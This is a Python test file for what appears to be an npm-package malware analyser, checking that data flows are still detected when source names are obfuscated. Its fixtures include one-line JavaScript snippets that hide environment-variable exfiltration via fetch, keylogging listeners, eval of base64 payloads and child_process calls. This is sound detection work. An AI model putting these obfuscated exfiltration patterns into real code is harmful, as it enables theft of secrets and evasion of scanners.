"""Values are not followed where no source can be: what hides a source's name must not make that so."""

from __future__ import annotations

import pytest

from npmguard.config import Limits
from npmguard.javascript.facts import extract_facts
from npmguard.javascript.flow_chances import Chances
from npmguard.javascript.flow_words import Source
from npmguard.javascript.program import Program
from npmguard.javascript.syntax import captures, parse
from npmguard.model import FactKind
from tests.unit.javascript.test_flow import EVERY_SOURCE_AND_SINK, NODE

BUILT = "let k = ''; for (const c of [104, 113, 121]) k += String.fromCharCode(c - 3);"


def told(code: str, *, linked: bool) -> list[tuple[str, str | None]]:
    found = extract_facts("index.js", code.encode(), Limits(), linked=linked)
    assert found.problem is None
    return [(fact.name, fact.value) for fact in found.facts if fact.kind is FactKind.FLOW]


def possible(code: str) -> frozenset[Source]:
    limits = Limits()
    parsed = parse("index.js", code.encode(), limits)
    assert parsed.tree is not None
    return Chances(Program(parsed, parsed.tree.root_node, captures(parsed), limits)).sources


@pytest.mark.parametrize(("code", "flow"), EVERY_SOURCE_AND_SINK)
def test_a_file_by_itself_has_the_flows_that_it_has_among_others(code: str, flow: str) -> None:
    alone = told(NODE + code, linked=False)
    assert flow in {name for name, _value in alone}
    assert alone == told(NODE + code, linked=True)


@pytest.mark.parametrize(
    "code",
    [
        "fetch(u, {body: process['e' + 'nv']})",
        "fetch(u, {body: globalThis['pro' + 'cess']['env']})",
        "const k = ['e', 'nv'].join(''); fetch(u, {body: process[k]})",
        r"fetch(u, {body: process['\x65nv']})",
        r"fetch(u, {body: process.\u0065nv})",
        r"fetch(u, {body: process['e\nv'.replace('\n', 'n')]})",
        "fetch(u, {body: process[atob('ZW52')]})",
        "fetch(u, {body: process[String.fromCharCode(101, 110, 118)]})",
        "fetch(u, {body: process['vne'.split('').reverse().join('')]})",
        "fetch(u, {body: process[`${'e'}nv`]})",
        "function word(i) { return ['a', 'e' + 'nv', 'b'][i]; } fetch(u, {body: process[word(1)]})",
        f"{BUILT} fetch(u, {{body: process[k]}})",
        "const {['e' + 'nv']: all} = process; fetch(u, {body: all})",
        "fetch(u, {body: Function('return pro' + 'cess')().env})",
        "fetch(u, {body: require('o' + 's').hostname()})",
        "fetch(u, {body: require(['child', 'process'].join('_')).execSync('ls')})",
        "document.addEventListener('key' + 'down', (e) => fetch(u, {body: e.key}))",
        "emitter.once(['key', 'down'].join(''), (e) => fetch(u, {body: e.key}))",
        "el['on' + 'keydown'] = (e) => fetch(u, {body: e.key})",
        "eval(Buffer.from(text, 'ba' + 'se64').toString())",
        "class K { static ['from' + 'SecretKey'](k) { fetch(u, {body: k}); } }",
        "const K = {['from' + 'SecretKey'](k) { fetch(u, {body: k}); }}",
        "eval(\"fetch(u, {body: process['e' + 'nv']})\")",
        "eval(atob('ZmV0Y2godSwge2JvZHk6IHByb2Nlc3MuZW52fSk='))",
    ],
)
def test_a_source_whose_name_is_hidden(code: str) -> None:
    alone = told(code, linked=False)
    assert alone
    assert alone == told(code, linked=True)


@pytest.mark.parametrize(
    ("code", "source"),
    [
        ("const a = b[c]; fetch(u, {body: a})", Source.ENVIRONMENT),
        ("const env = 1; send(env)", Source.ENVIRONMENT),
        ("const fs = 1; fs.run()", Source.FILE),
        ("a.b(c)", Source.COMMAND_OUTPUT),
        ("a + b", Source.DECODED),
        ("a.b = c", Source.FORM_INPUT),
    ],
)
def test_a_source_none_of_whose_names_is_there(code: str, source: Source) -> None:
    assert source not in possible(code)
